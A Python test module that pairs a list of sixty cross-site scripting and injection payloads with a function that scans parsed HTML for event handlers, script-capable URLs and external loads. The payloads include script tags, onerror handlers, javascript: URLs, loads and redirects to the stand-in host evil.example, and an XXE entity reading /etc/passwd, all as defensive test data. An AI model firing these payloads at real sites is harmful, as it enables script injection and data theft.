"""Sixty ways in which a paper, a file or an address might try to run a script, and a reader that finds any that would."""

from __future__ import annotations

import re

from selectolax.lexbor import LexborHTMLParser

_ALERT = "alert(document.domain)"
PAYLOADS = (
    f"<script>{_ALERT}</script>",
    f"<ScRiPt>{_ALERT}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    f'"><script>{_ALERT}</script>',
    f"'><script>{_ALERT}</script>",
    f"</title><script>{_ALERT}</script>",
    f"</textarea><script>{_ALERT}</script>",
    f"</mark><script>{_ALERT}</script><mark>",
    f"--><script>{_ALERT}</script><!--",
    f"]]><script>{_ALERT}</script>",
    f"<img src=x onerror={_ALERT}>",
    f'<img src=x:x onerror="{_ALERT}">',
    f"<img/src/onerror={_ALERT}>",
    f'" onfocus={_ALERT} autofocus x="',
    f"' onfocus={_ALERT} autofocus x='",
    f'" onmouseover="{_ALERT}',
    f"<svg onload={_ALERT}>",
    f"<svg/onload={_ALERT}>",
    f"<svg><script>{_ALERT}</script></svg>",
    f"<svg><animate onbegin={_ALERT} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{_ALERT}"><text y=20>x</text></a>',
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={_ALERT}>",
    f"<body onload={_ALERT}>",
    f'<iframe src="javascript:{_ALERT}"></iframe>',
    f'<iframe srcdoc="<script>{_ALERT}</script>"></iframe>',
    f'<object data="javascript:{_ALERT}"></object>',
    f'<embed src="javascript:{_ALERT}">',
    f'<a href="javascript:{_ALERT}">x</a>',
    f'<a href="jav&#x09;ascript:{_ALERT}">x</a>',
    f'<a href=" &#14; javascript:{_ALERT}">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    f"javascript:{_ALERT}",
    f"java\nscript:{_ALERT}",
    f"javascript://%0a{_ALERT}",
    f"vbscript:{_ALERT}",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f'<form action="javascript:{_ALERT}"><button>x</button></form>',
    f'<button formaction="javascript:{_ALERT}">x</button>',
    f"<input onfocus={_ALERT} autofocus>",
    f"<select onfocus={_ALERT} autofocus>",
    f"<details open ontoggle={_ALERT}>",
    f"<video><source onerror={_ALERT}>",
    f"<audio src=x onerror={_ALERT}>",
    f"<marquee onstart={_ALERT}>",
    '<meta http-equiv=refresh content="0;url=//evil.example">',
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    '<div style="background:url(//evil.example)">',
    f'<noscript><p title="</noscript><img src=x onerror={_ALERT}>">',
    f"<template><script>{_ALERT}</script></template>",
    f"{{{{ ''.__class__.__mro__ }}}} {{% print({_ALERT}) %}}",
    "{{7*7}}${7*7}<%= 7*7 %>#{7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "＜script＞alert(1)＜/script＞",
    f"<\x00script>{_ALERT}</script>",
    f"\u202e<script>{_ALERT}</script>",
    f'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;{_ALERT}</x>',
)
assert len(set(PAYLOADS)) == 60

_ELEMENTS = frozenset(
    re.findall(
        r"\w+",
        "html head meta title link body a header div main footer h1 h2 h3 h4 ul ol li p form label input button select option "
        "section span strong em br table caption thead tbody tr th td details summary blockquote nav fieldset legend dl dt dd "
        "mark textarea img pre code script",
    )
)
_SAFE_STARTS = ("/", "#", "https://", "http://")


def dangers(page: str) -> list[str]:
    """Return what on *page* could run, load from elsewhere or lead to a script."""
    found = []
    for node in LexborHTMLParser(page).css("*"):
        if node.tag not in _ELEMENTS:
            found.append(node.tag)
        for name, value in node.attributes.items():
            value = value or ""
            if name.startswith("on") or name in {"style", "srcdoc", "formaction", "http-equiv"}:
                found.append(f"{node.tag} {name}")
            if name in {"href", "src", "action"} and (not value.startswith(_SAFE_STARTS) or value.startswith("//")):
                found.append(f"{node.tag} {name}={value}")
            if name == "src" and not value.startswith("/"):
                found.append(f"{node.tag} {name}={value}")
        if node.tag == "script" and (node.text() or not (node.attributes.get("src") or "").startswith("/static/")):
            found.append("script")
        if node.tag == "link" and not (node.attributes.get("href") or "").startswith("/"):
            found.append("link")
    return found
